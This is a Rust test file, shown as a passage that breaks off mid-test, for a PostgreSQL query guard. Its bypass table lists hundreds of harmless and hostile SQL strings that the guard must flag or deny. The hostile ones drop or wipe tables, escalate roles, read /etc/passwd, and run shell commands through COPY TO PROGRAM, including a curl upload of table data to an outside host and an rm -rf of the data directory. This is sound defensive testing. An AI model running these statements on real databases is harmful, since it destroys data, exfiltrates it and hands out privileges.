//! The bypass suite: one line per attempt, `(sql, expected class, expected action)`, under the
//! default policy. Every way we could think of to slip something destructive past the guard —
//! comments, case, quoting, Unicode escapes, dollar quoting, several statements in one message,
//! writes hidden in CTEs and EXPLAIN ANALYZE, functions in every position, prepared statements
//! over SQL and over the extended protocol — plus the harmless statements that must keep
//! flowing. None of the destructive cases may come out Allow or RowGuard.

use guard::{Action, Class, Guard, Policy, Session};

#[derive(Debug, Clone, Copy, PartialEq)]
enum V {
    Allow,
    /// RowGuard with the default 1000 rows.
    Guard,
    Approve,
    Deny,
}
use Class::{Ddl, Destructive as Destr, Read, Write};
use V::{Allow, Approve, Deny, Guard as Rows};

fn matches(a: &Action, v: V) -> bool {
    match (a, v) {
        (Action::Allow, V::Allow) | (Action::Approve, V::Approve) | (Action::Deny, V::Deny) => true,
        (Action::RowGuard { max_rows }, V::Guard) => *max_rows == 1000,
        _ => false,
    }
}

/// Single messages, each checked in a fresh session.
const CASES: &[(&str, Class, V)] = &[
    // ---- plain reads and writes that must keep flowing
    ("SELECT 1", Read, Allow),
    ("select * from orders where merchant_id = 42", Read, Allow),
    ("SELECT count(*), max(created_at) FROM orders GROUP BY merchant_id HAVING count(*) > 1", Read, Allow),
    ("SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY 1 LIMIT 10", Read, Allow),
    ("SELECT lower(name), upper(name), length(name), now() FROM customers", Read, Allow),
    ("SELECT pg_catalog.lower('X')", Read, Allow),
    ("SELECT * FROM generate_series(1, 10) g", Read, Allow),
    ("VALUES (1), (2)", Read, Allow),
    ("TABLE orders", Read, Allow),
    ("SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3", Read, Allow),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", Read, Allow),
    ("SELECT CASE WHEN x > 0 THEN 'a' ELSE 'b' END, COALESCE(y, 0), GREATEST(1, 2) FROM t", Read, Allow),
    ("SELECT CURRENT_USER, CURRENT_TIMESTAMP, SESSION_USER", Read, Allow),
    ("SELECT jsonb_build_object('a', 1) -> 'a', '{1,2}'::int[] @> ARRAY[1]", Read, Allow),
    ("SELECT x FROM t WHERE name LIKE 'a%' AND id BETWEEN 1 AND 5 AND tag IN ('a', 'b')", Read, Allow),
    ("SELECT * FROM orders WHERE id IN (SELECT order_id FROM order_items WHERE qty > 3)", Read, Allow),
    ("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", Read, Allow),
    ("SELECT row_number() OVER (PARTITION BY merchant_id ORDER BY id) FROM orders", Read, Allow),
    ("INSERT INTO orders (merchant_id, total) VALUES (1, 100)", Write, Allow),
    ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)", Write, Allow),
    ("INSERT INTO archive SELECT * FROM orders WHERE created_at < '2020-01-01'", Write, Allow),
    ("INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", Write, Allow),
    ("INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING RETURNING id", Write, Allow),
    ("SELECT nextval('orders_id_seq')", Write, Allow),
    ("SELECT * FROM orders WHERE id = 1 FOR UPDATE", Write, Allow),
    // ---- DELETE / UPDATE with a real WHERE: the row guard counts them
    ("DELETE FROM orders WHERE id = 7", Write, Rows),
    ("delete from ORDERS where ID = 7", Write, Rows),
    ("UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2", Write, Rows),
    ("UPDATE stored_value_cards SET balance = 0 WHERE merchant_id = 42", Write, Rows),
    ("DELETE FROM orders WHERE created_at < now() - interval '1 year'", Write, Rows),
    ("DELETE FROM orders o USING merchants m WHERE o.merchant_id = m.id AND m.closed", Write, Rows),
    ("UPDATE orders SET total = 0 FROM merchants WHERE orders.merchant_id = merchants.id", Write, Rows),
    ("DELETE FROM orders WHERE id = $1", Write, Rows),
    ("DELETE FROM sessions WHERE expired_at IS NOT NULL", Write, Rows), // depends on the data: the row guard counts
    ("DELETE FROM t WHERE id = 1 OR id = 2", Write, Rows),
    ("DELETE FROM t WHERE id = id AND merchant_id = 3", Write, Rows), // the AND keeps it bounded
    ("DELETE FROM t WHERE CURRENT OF c", Write, Rows),
    ("DELETE FROM orders WHERE id = 7 RETURNING *", Write, Rows),
    ("WITH old AS (SELECT id FROM orders WHERE created_at < '2020-01-01') DELETE FROM orders WHERE id IN (SELECT id FROM old)", Write, Rows),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", Write, Rows),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", Write, Allow), // inserts only
    // ---- DELETE / UPDATE that hit every row
    ("DELETE FROM orders", Destr, Approve),
    ("delete from public.orders", Destr, Approve),
    ("DELETE FROM ONLY orders", Destr, Approve),
    ("UPDATE stored_value_cards SET balance = 0", Destr, Approve),
    ("DELETE FROM orders WHERE true", Destr, Approve),
    ("DELETE FROM orders WHERE 1=1", Destr, Approve),
    ("DELETE FROM orders WHERE 'a'='a'", Destr, Approve),
    ("DELETE FROM orders WHERE id = id", Destr, Approve), // true for every row with an id
    ("DELETE FROM orders WHERE orders.id = id", Destr, Approve),
    ("DELETE FROM orders o WHERE o.id = id", Destr, Approve),
    ("DELETE FROM orders WHERE id >= id", Destr, Approve),
    ("DELETE FROM orders WHERE id IS NOT DISTINCT FROM id", Destr, Approve),
    ("DELETE FROM orders WHERE id = 7 OR true", Destr, Approve),
    ("DELETE FROM orders WHERE id = 7 OR 1 = 1", Destr, Approve),
    ("DELETE FROM orders WHERE NOT false", Destr, Approve),
    ("DELETE FROM orders WHERE 't'::boolean", Destr, Approve),
    ("DELETE FROM orders WHERE now() > '2000-01-01'", Destr, Approve), // no column: same for every row
    ("DELETE FROM orders WHERE random() < 2", Destr, Approve),
    ("DELETE FROM orders WHERE $1", Destr, Approve), // a bare parameter decides for every row
    ("DELETE FROM orders WHERE id = 7 OR $1", Destr, Approve),
    ("DELETE FROM orders WHERE EXISTS (SELECT 1)", Destr, Approve),
    ("DELETE FROM orders WHERE (id = id) IS TRUE", Destr, Approve),
    ("DELETE FROM customers WHERE name LIKE '%'", Destr, Approve),
    ("UPDATE t SET a = 1 WHERE 2 > 1", Destr, Approve),
    ("UPDATE t SET a = 1 WHERE id = id OR a = 5", Destr, Approve),
    ("DELETE /* just one row, promise */ FROM orders -- WHERE id = 7", Destr, Approve),
    ("DELETE FROM orders WHERE /* id = 7 */ true", Destr, Approve),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", Destr, Approve),
    // ---- TRUNCATE and DROP in every spelling
    ("TRUNCATE orders", Destr, Approve),
    ("TRUNCATE TABLE orders", Destr, Approve),
    ("TRUNCATE ONLY orders", Destr, Approve),
    ("TRUNCATE a, b CASCADE", Destr, Approve),
    ("TRUNCATE orders RESTART IDENTITY", Destr, Approve),
    ("truncate \"Orders\"", Destr, Approve),
    ("DROP TABLE orders", Destr, Approve),
    ("DROP TABLE IF EXISTS orders, customers CASCADE", Destr, Approve),
    ("drop table public.orders", Destr, Approve),
    ("DrOp TaBlE orders", Destr, Approve),
    ("DROP DATABASE shop", Destr, Approve),
    ("DROP DATABASE shop WITH (FORCE)", Destr, Approve),
    ("DROP SCHEMA public CASCADE", Destr, Approve),
    ("DROP VIEW v", Destr, Approve),
    ("DROP MATERIALIZED VIEW mv", Destr, Approve),
    ("DROP INDEX CONCURRENTLY orders_pkey", Destr, Approve),
    ("DROP SEQUENCE s", Destr, Approve),
    ("DROP FUNCTION f(int)", Destr, Approve),
    ("DROP TRIGGER audit ON orders", Destr, Approve),
    ("DROP EXTENSION pgaudit", Destr, Approve),
    ("DROP TYPE mood", Destr, Approve),
    ("DROP POLICY p ON orders", Destr, Approve),
    ("DROP PUBLICATION pub", Destr, Approve),
    ("DROP SUBSCRIPTION sub", Destr, Approve),
    ("DROP TABLESPACE ts", Destr, Approve),
    ("DROP OWNED BY alice", Destr, Approve),
    ("DROP OWNED BY alice CASCADE", Destr, Approve),
    ("REASSIGN OWNED BY alice TO bob", Destr, Approve),
    ("DROP ROLE alice", Destr, Approve),
    ("DROP USER IF EXISTS alice", Destr, Approve),
    ("DROP USER MAPPING FOR alice SERVER s", Destr, Approve),
    // ---- ALTER TABLE
    ("ALTER TABLE orders DROP COLUMN total", Destr, Approve),
    ("ALTER TABLE orders DROP total", Destr, Approve),
    ("ALTER TABLE orders ADD COLUMN note text, DROP COLUMN total", Destr, Approve),
    ("ALTER TABLE orders ALTER COLUMN total TYPE int USING NULL", Destr, Approve), // rewrite can destroy values
    ("ALTER TABLE orders ALTER COLUMN total TYPE numeric", Destr, Approve),
    ("ALTER TABLE orders SET UNLOGGED", Destr, Approve), // its changes would bypass the WAL and the vault
    ("ALTER TABLE orders DISABLE TRIGGER ALL", Destr, Approve),
    ("ALTER TABLE orders DISABLE TRIGGER audit", Destr, Approve),
    ("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", Destr, Approve),
    ("ALTER TABLE orders OWNER TO mallory", Destr, Approve),
    ("ALTER TABLE orders ADD COLUMN note text", Ddl, Allow),
    ("ALTER TABLE orders ADD CONSTRAINT positive CHECK (total >= 0)", Ddl, Allow),
    ("ALTER TABLE orders ALTER COLUMN note SET DEFAULT ''", Ddl, Allow),
    ("ALTER TABLE orders RENAME TO orders_old", Ddl, Allow), // data intact, renaming back undoes it
    ("ALTER TABLE orders RENAME COLUMN total TO amount", Ddl, Allow),
    ("ALTER TABLE orders DROP CONSTRAINT positive", Ddl, Allow), // no row is lost
    ("ALTER TABLE orders ADD COLUMN x int DEFAULT pg_terminate_backend(1)::int", Destr, Approve),
    ("ALTER INDEX orders_pkey RENAME TO orders_pk", Ddl, Allow),
    // ---- DDL that destroys nothing
    ("CREATE TABLE t (id int PRIMARY KEY, v text)", Ddl, Allow),
    ("CREATE UNLOGGED TABLE scratch (id int)", Ddl, Allow),
    ("CREATE INDEX CONCURRENTLY ON orders (merchant_id)", Ddl, Allow),
    ("CREATE VIEW v AS SELECT id FROM orders", Ddl, Allow),
    ("CREATE TABLE copy AS SELECT * FROM orders", Ddl, Allow),
    ("SELECT * INTO backup_orders FROM orders", Ddl, Allow),
    ("CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders", Ddl, Allow),
    ("CREATE SCHEMA reporting", Ddl, Allow),
    ("CREATE SEQUENCE s", Ddl, Allow),
    ("CREATE TYPE mood AS ENUM ('ok', 'sad')", Ddl, Allow),
    ("COMMENT ON TABLE orders IS 'orders'", Ddl, Allow),
    ("CREATE ROLE analyst NOLOGIN", Ddl, Allow),
    ("CREATE DATABASE scratch", Ddl, Allow),
    ("CREATE POLICY p ON orders USING (merchant_id = 1)", Ddl, Allow),
    ("VACUUM FULL orders", Ddl, Allow), // rewrites under a lock, loses no row
    ("CLUSTER orders USING orders_pkey", Ddl, Allow),
    ("REINDEX TABLE orders", Ddl, Allow),
    // ---- DDL that hides code or writes
    ("CREATE TABLE t (id int DEFAULT pg_terminate_backend(1)::int)", Destr, Approve),
    ("CREATE VIEW v AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Destr, Approve), // runs whenever v is read
    ("CREATE TABLE t AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", Destr, Approve),
    ("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM orders", Destr, Approve),
    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Destr, Approve),
    ("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()", Destr, Approve),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'", Destr, Approve),
    ("CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql AS $$ SELECT $1 $$", Destr, Approve),
    ("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", Destr, Approve),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", Destr, Approve),
    ("ALTER FUNCTION f() SECURITY DEFINER", Destr, Approve),
    ("CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = dblink_exec)", Destr, Approve),
    ("CREATE AGGREGATE agg(int) (SFUNC = f, STYPE = int)", Destr, Approve),
    ("CREATE CAST (text AS int) WITH FUNCTION f(text)", Destr, Approve),
    ("CREATE EXTENSION dblink", Destr, Approve),
    ("ALTER EXTENSION dblink UPDATE", Destr, Approve),
    ("CREATE LANGUAGE plperlu", Destr, Approve),
    ("LOAD 'evil.so'", Destr, Approve),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", Destr, Approve),
    ("CREATE ROLE boss SUPERUSER LOGIN", Destr, Approve),
    ("CREATE ROLE sneaky IN ROLE dba", Destr, Approve), // membership in an existing powerful role
    ("CREATE USER rep REPLICATION", Destr, Approve),
    ("ALTER ROLE alice SUPERUSER", Destr, Approve),
    ("ALTER ROLE alice PASSWORD 'x'", Destr, Approve),
    ("ALTER USER alice SET search_path = evil", Destr, Approve),
    ("ALTER DATABASE shop SET session_replication_role = replica", Destr, Approve),
    ("ALTER DATABASE shop CONNECTION LIMIT 0", Destr, Approve),
    ("GRANT ALL ON orders TO mallory", Destr, Approve),
    ("GRANT dba TO mallory", Destr, Approve),
    ("REVOKE SELECT ON orders FROM app", Destr, Approve),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO mallory", Destr, Approve),
    ("ALTER SCHEMA public OWNER TO mallory", Destr, Approve),
    // ---- server-level
    ("ALTER SYSTEM SET wal_level = minimal", Destr, Approve),
    ("alter system reset all", Destr, Approve),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", Destr, Approve),
    ("DO 'BEGIN NULL; END'", Destr, Approve), // even empty: the body is code
    ("DO $x$ BEGIN PERFORM 1; END $x$ LANGUAGE plpgsql", Destr, Approve),
    ("COPY orders TO PROGRAM 'curl -T - http://x'", Destr, Approve),
    ("COPY orders FROM PROGRAM 'rm -rf /var/lib/postgresql'", Destr, Approve),
    ("COPY orders TO '/tmp/orders.csv'", Destr, Approve),
    ("COPY orders FROM '/etc/passwd'", Destr, Approve),
    ("COPY (SELECT * FROM orders) TO '/var/lib/postgresql/15/main/postgresql.auto.conf'", Destr, Approve),
    ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", Destr, Approve),
    ("COPY orders TO STDOUT", Read, Allow),
    ("COPY orders (id, total) TO STDOUT WITH (FORMAT csv)", Read, Allow),
    ("COPY (SELECT * FROM orders WHERE id < 10) TO STDOUT", Read, Allow),
    ("COPY orders FROM STDIN", Write, Allow),
    ("CHECKPOINT", Write, Allow),
    // ---- functions in every position
    ("SELECT pg_terminate_backend(1234)", Destr, Approve),
    ("SELECT pg_catalog.pg_terminate_backend(1234)", Destr, Approve),
    ("SELECT PG_TERMINATE_BACKEND(1234)", Destr, Approve),
    ("SELECT \"PG_TERMINATE_BACKEND\"(1234)", Destr, Approve), // another name to PostgreSQL; refused anyway
    ("SELECT \"pg_terminate_backend\"(1234)", Destr, Approve),
    ("SELECT U&\"pg_termin\\0061te_backend\"(1234)", Destr, Approve), // Unicode escape in the name
    ("SELECT U&\"!0070g_terminate_backend\" UESCAPE '!' (1234)", Destr, Approve),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", Destr, Approve),
    ("SELECT * FROM orders WHERE pg_terminate_backend(1) IS NOT NULL", Destr, Approve),
    ("SELECT (SELECT pg_terminate_backend(1))", Destr, Approve),
    ("VALUES (pg_terminate_backend(1))", Destr, Approve),
    ("WITH k AS (SELECT pg_terminate_backend(1)) SELECT 1", Destr, Approve),
    ("SELECT * FROM pg_terminate_backend(1)", Destr, Approve),
    ("SELECT * FROM ROWS FROM (pg_terminate_backend(1))", Destr, Approve),
    ("SELECT count(*) FILTER (WHERE pg_terminate_backend(1)) FROM t", Destr, Approve),
    ("SELECT 1 ORDER BY pg_terminate_backend(1)", Destr, Approve),
    ("SELECT CASE WHEN false THEN pg_terminate_backend(1) END", Destr, Approve),
    ("SELECT ARRAY[pg_terminate_backend(1)]", Destr, Approve),
    ("SELECT pg_terminate_backend(x) FROM (VALUES (1)) v(x) LIMIT 0", Destr, Approve),
    ("INSERT INTO t VALUES (pg_terminate_backend(1))", Destr, Approve),
    ("UPDATE t SET a = pg_cancel_backend(1) WHERE id = 1", Destr, Approve),
    ("SELECT pg_cancel_backend(1)", Destr, Approve),
    ("SELECT pg_drop_replication_slot('holdfast_main')", Destr, Approve),
    ("SELECT pg_replication_slot_advance('holdfast_main', '0/FFFFFFFF')", Destr, Approve),
    ("SELECT lo_unlink(12345)", Destr, Approve),
    ("SELECT lo_import('/etc/passwd')", Destr, Approve),
    ("SELECT dblink_exec('host=localhost', 'DROP TABLE orders')", Destr, Approve),
    ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", Destr, Approve),
    ("SELECT public.dblink_exec('c', 'DROP TABLE orders')", Destr, Approve),
    ("SELECT dblink_connect_u('host=x')", Destr, Approve),
    ("SELECT pg_read_file('/etc/passwd')", Destr, Approve),
    ("SELECT pg_read_binary_file('global/pg_control')", Destr, Approve),
    ("SELECT pg_ls_dir('.')", Destr, Approve),
    ("SELECT pg_reload_conf()", Destr, Approve),
    ("SELECT pg_promote()", Destr, Approve),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", Destr, Approve), // runs its text
    ("SELECT * FROM ts_stat('DELETE FROM orders RETURNING to_tsvector(''x'')')", Destr, Approve),
    ("CALL pg_terminate_backend(1)", Destr, Approve),
    ("SELECT set_config('role', 'postgres', false)", Destr, Approve),
    ("SELECT set_config('session_authorization', 'postgres', false)", Destr, Approve),
    ("SELECT set_config('ROLE', 'postgres', false)", Destr, Approve),
    ("SELECT pg_catalog.set_config('session_replication_role', 'replica', false)", Destr, Approve),
    ("SELECT set_config(current_setting('x.y'), 'postgres', false)", Destr, Approve), // computed name
    ("SELECT set_config('statement_timeout', '5s', false)", Read, Allow),
    ("SELECT set_config('search_path', 'evil, pg_catalog', false)", Ddl, Allow),
    ("SELECT my_report(42)", Write, Allow), // unknown function: may write (policy unknown_functions)
    ("SELECT public.lower('x')", Write, Allow), // not the built-in
    ("CALL refresh_stats()", Write, Allow),
    ("SELECT 1 === 2", Write, Allow), // a user-defined operator is a function call
    ("SELECT 1 OPERATOR(public.+) 2", Write, Allow),
    ("SELECT 1 OPERATOR(pg_catalog.+) 2", Read, Allow),
    // ---- writes hidden in CTEs and EXPLAIN
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", Destr, Approve),
    ("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", Destr, Approve), // count invisible
    ("WITH u AS (UPDATE cards SET balance = 0 RETURNING 1) SELECT count(*) FROM u", Destr, Approve),
    ("WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t RETURNING 1) SELECT * FROM c) SELECT * FROM b", Destr, Approve),
    ("WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i", Write, Allow),
    ("WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d", Destr, Approve),
    ("SELECT * FROM (SELECT 1) s, LATERAL (SELECT pg_terminate_backend(1)) k", Destr, Approve),
    ("EXPLAIN ANALYZE DELETE FROM orders", Destr, Approve),
    ("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", Destr, Approve),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", Destr, Approve),
    ("EXPLAIN (ANALYZE true) DELETE FROM t", Destr, Approve),
    ("EXPLAIN (ANALYZE on) DELETE FROM t", Destr, Approve),
    ("EXPLAIN (ANALYZE 1) DELETE FROM t", Destr, Approve),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", Read, Allow), // nothing runs
    ("EXPLAIN DELETE FROM orders", Read, Allow),
    ("EXPLAIN (COSTS off) UPDATE orders SET total = 0", Read, Allow),
    ("EXPLAIN SELECT * FROM orders", Read, Allow),
    ("EXPLAIN ANALYZE SELECT * FROM orders", Read, Allow),
    ("EXPLAIN SELECT pg_terminate_backend(1)", Destr, Approve), // the planner may evaluate calls
    ("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", Ddl, Allow),
    // ---- identity and settings
    ("SET ROLE postgres", Destr, Approve),
    ("set role \"postgres\"", Destr, Approve),
    ("SET LOCAL ROLE postgres", Destr, Approve),
    ("RESET ROLE", Destr, Approve),
    ("SET ROLE NONE", Destr, Approve),
    ("SET SESSION AUTHORIZATION postgres", Destr, Approve),
    ("SET SESSION AUTHORIZATION DEFAULT", Destr, Approve),
    ("RESET SESSION AUTHORIZATION", Destr, Approve),
    ("SET session_replication_role = replica", Destr, Approve), // triggers and FK checks off
    ("SET log_statement = 'none'", Destr, Approve), // the database's own witness
    ("SET zero_damaged_pages = on", Destr, Approve),
    ("SET search_path = evil, pg_catalog", Ddl, Allow),
    ("SET search_path TO reporting", Ddl, Allow),
    ("RESET search_path", Ddl, Allow),
    ("RESET ALL", Ddl, Allow),
    ("DISCARD ALL", Ddl, Allow),
    ("SET statement_timeout = '5s'", Read, Allow),
    ("SET application_name = 'psql'", Read, Allow),
    ("SET TIME ZONE 'UTC'", Read, Allow),
    ("set datestyle to iso, mdy", Read, Allow),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Read, Allow),
    ("SET myapp.custom_setting = 'x'", Write, Allow), // unknown setting
    ("SHOW search_path", Read, Allow),
    ("SHOW ALL", Read, Allow),
    // ---- transactions, cursors, notifications, locks
    ("BEGIN", Read, Allow),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", Read, Allow),
    ("START TRANSACTION READ ONLY", Read, Allow),
    ("COMMIT", Read, Allow),
    ("END", Read, Allow),
    ("ROLLBACK", Read, Allow),
    ("SAVEPOINT s1", Read, Allow),
    ("RELEASE SAVEPOINT s1", Read, Allow),
    ("ROLLBACK TO SAVEPOINT s1", Read, Allow),
    ("PREPARE TRANSACTION 'tx1'", Write, Allow),
    ("COMMIT PREPARED 'tx1'", Read, Allow),
    ("DECLARE c CURSOR FOR SELECT * FROM orders", Read, Allow),
    ("DECLARE c CURSOR FOR SELECT pg_terminate_backend(1)", Destr, Approve),
    ("FETCH 10 FROM c", Read, Allow),
    ("CLOSE c", Read, Allow),
    ("LISTEN orders_changed", Read, Allow),
    ("UNLISTEN *", Read, Allow),
    ("NOTIFY orders_changed, 'x'", Write, Allow),
    ("SELECT pg_notify('c', 'x')", Write, Allow),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", Write, Allow), // blocks, changes nothing
    ("VACUUM orders", Write, Allow),
    ("ANALYZE orders", Write, Allow),
    ("REFRESH MATERIALIZED VIEW mv", Write, Allow),
    // ---- multi-statement messages: the strictest wins
    ("SELECT 1; DROP TABLE orders", Destr, Approve),
    ("SELECT 1;DROP TABLE orders;", Destr, Approve),
    ("SELECT 1; -- comment\nDROP TABLE orders", Destr, Approve),
    ("SELECT '; DROP TABLE orders; --'", Read, Allow), // inside a string literal: not a statement
    ("SELECT $$; DROP TABLE orders; $$", Read, Allow),
    ("SELECT $tag$ $$; DROP TABLE orders; $$ $tag$", Read, Allow),
    ("SELECT 1 /* ; DROP TABLE orders; */", Read, Allow),
    ("SELECT 1 /* nested /* ; */ DROP TABLE orders; */", Read, Allow), // nested comments close properly
    ("SELECT 1 /* nested /* */ */; DROP TABLE orders", Destr, Approve),
    ("SELECT \"; DROP TABLE orders; --\" FROM t", Read, Allow),
    ("BEGIN; DELETE FROM orders WHERE id = 1; COMMIT", Write, Rows),
    ("BEGIN; DELETE FROM orders; COMMIT", Destr, Approve),
    ("DELETE FROM a WHERE id = 1; DELETE FROM b WHERE id = 2", Write, Approve), // the row guard checks one
    ("UPDATE t SET a = 1 WHERE id = 1; SELECT pg_terminate_backend(1)", Destr, Approve),
    ("SELECT 1;\n\n\tTRUNCATE orders", Destr, Approve),
    ("INSERT INTO t VALUES (1); ALTER SYSTEM SET fsync = off", Destr, Approve),
    ("SET search_path = evil, pg_catalog; SELECT lower('x')", Ddl, Allow), // lower() becomes unknown: write
    // ---- whitespace and odd spellings
    ("  \n\t DROP\n\tTABLE\n orders  ", Destr, Approve),
    ("DROP/**/TABLE/**/orders", Destr, Approve),
    ("DROP TABLE \"orders\"", Destr, Approve),
    ("DROP TABLE U&\"\\006Frders\"", Destr, Approve),
    ("DROP TABLE \"ORDERS\"\"x\"", Destr, Approve),
    ("(SELECT 1)", Read, Allow),
    ("((SELECT pg_terminate_backend(1)))", Destr, Approve),
    // ---- refused unparsed
    ("SELEC 1", Destr, Deny),
    ("DROP TABLE", Destr, Deny),
    ("DELETE FROM orders WHERE", Destr, Deny),
    ("SELECT 'unterminated", Destr, Deny),
    ("SELECT $$unterminated", Destr, Deny),
    ("SELECT 1 /* unterminated comment", Destr, Deny),
    ("DROP TABLE orders\0", Destr, Deny),
    ("SELECT 1\0; DROP TABLE orders", Destr, Deny),
    ("EXECUTE never_prepared", Read, Deny), // unknown prepared statement: fail closed
    ("EXPLAIN ANALYZE EXECUTE never_prepared", Read, Deny),
    ("CREATE TABLE x AS EXECUTE never_prepared", Ddl, Deny),
    // ---- empty
    ("", Read, Allow),
    (";", Read, Allow),
    ("-- only a comment", Read, Allow),
];

fn check(guard: &Guard, session: &mut Session, sql: &str, class: Class, v: V) -> Option<String> {
    let d = guard.check_query(session, sql);
    let mut bad = Vec::new();
    if d.class != class || !matches(&d.action, v) {
        bad.push(format!("expected {class:?}/{v:?}, got {:?}/{:?}", d.class, d.action));
    }
    if d.class == Class::Destructive && matches!(d.action, Action::Allow | Action::RowGuard { .. }) {
        bad.push("DESTRUCTIVE LET THROUGH".into());
    }
    if d.statements.iter().any(|s| s.class == Class::Destructive && matches!(s.action, Action::Allow | Action::RowGuard { .. })) {
        bad.push("a destructive statement was let through".into());
    }
    if d.class > Class::Write && d.reasons.is_empty() && d.class == Class::Destructive {
        bad.push("destructive without a reason".into());
    }
    (!bad.is_empty()).then(|| format!("{sql:?}: {} (reasons: {:?})", bad.join("; "), d.reasons))
}

#[test]
fn bypass_table() {
    assert!(CASES.len() >= 200, "the suite holds {} cases", CASES.len());
    let guard = Guard::new(Policy::default());
    let failures: Vec<String> =
        CASES.iter().filter_map(|(sql, class, v)| check(&guard, &mut Session::default(), sql, *class, *v)).collect();
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), CASES.len(), failures.join("\n"));
}

#[test]
fn the_cache_gives_the_same_verdicts() {
    // Second round hits the parse cache; verdicts must not change.
    let guard = Guard::new(Policy::default());
    for _ in 0..2 {
        let failures: Vec<String> =
            CASES.iter().filter_map(|(sql, class, v)| check(&guard, &mut Session::default(), sql, *class, *v)).collect();
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }
}

#[test]
fn oversized_input_is_denied_unparsed() {
    let guard = Guard::new(Policy::default());
    let big = format!("SELECT '{}'", "x".repeat(2 * 1024 * 1024));
    let d = guard.check_query(&mut Session::default(), &big);
    assert_eq!(d.action, Action::Deny);
    assert!(d.reasons[0].contains("max_statement_bytes"), "{:?}", d.reasons);
    // Just under the limit parses.
    let ok = format!("SELECT '{}'", "x".repeat(1024 * 1024 - 20));
    assert_eq!(guard.check_query(&mut Session::default(), &ok).action, Action::Allow);
}

#[test]
fn too_many_statements_are_denied() {
    let guard = Guard::new(Policy::default());
    let many = "SELECT 1;".repeat(257);
    let d = guard.check_query(&mut Session::default(), &many);
    assert_eq!(d.action, Action::Deny);
    assert!(d.reasons[0].contains("max_statements"), "{:?}", d.reasons);
    assert_eq!(guard.check_query(&mut Session::default(), &"SELECT 1;".repeat(256)).action, Action::Allow);
}

#[test]
fn deeply_nested_input_is_denied_not_crashed() {
    // Run where the gate would: a thread with a small (2 MiB, tokio's default) stack. PostgreSQL's
    // parser checks its stack depth; trees deeper than prost's recursion limit (about 45 levels
    // of nested expressions) are refused as too deep. Either way: Deny, never a crash.
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(|| {
            let guard = Guard::new(Policy::default());
            let ok = format!("SELECT {}1{}", "(SELECT ".repeat(10), ")".repeat(10));
            assert_eq!(guard.check_query(&mut Session::default(), &ok).action, Action::Allow);
            let ok = format!("SELECT {}x", "x || ".repeat(40));
            assert_eq!(guard.check_query(&mut Session::default(), &ok).action, Action::Allow);
            for depth in [100, 1000, 10_000, 100_000] {
                for sql in [
                    format!("SELECT {}1{}", "(SELECT ".repeat(depth), ")".repeat(depth)),
                    format!("SELECT {}true", "NOT ".repeat(depth)),
                    format!("SELECT {}1{}", "ARRAY[".repeat(depth), "]".repeat(depth)),
                    format!("SELECT {}x", "x || ".repeat(depth)),
                    format!("DELETE FROM t WHERE id = 1 AND {}true", "NOT ".repeat(depth)),
                ] {
                    let d = guard.check_query(&mut Session::default(), &sql);
                    assert_eq!(d.action, Action::Deny, "depth {depth}: {}", &sql[..40]);
                    assert!(!d.reasons.is_empty());
                }
            }
        })
        .unwrap()
        .join()
        .unwrap();
}

// ---- prepared statements: SQL PREPARE/EXECUTE/DEALLOCATE and the extended protocol

#[test]
fn sql_prepare_then_execute_carries_the_class() {
    let guard = Guard::new(Policy::default());
    let mut s = Session::default();
    let d = guard.check_query(&mut s, "PREPARE p AS DELETE FROM orders");
    assert_eq!(d.action, Action::Allow, "PREPARE itself runs nothing");
